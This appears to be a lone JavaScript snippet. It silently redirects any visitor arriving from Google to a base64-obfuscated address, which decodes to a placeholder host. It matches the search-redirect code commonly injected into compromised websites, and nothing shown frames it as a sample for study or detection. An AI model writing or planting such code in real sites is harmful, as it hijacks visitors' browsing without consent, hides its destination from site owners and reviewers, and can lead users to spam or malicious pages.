if(document.referrer.indexOf('google')>0){window.location.href=atob('aHR0cDovL2V4YW1wbGUuaW52YWxpZC8=');}
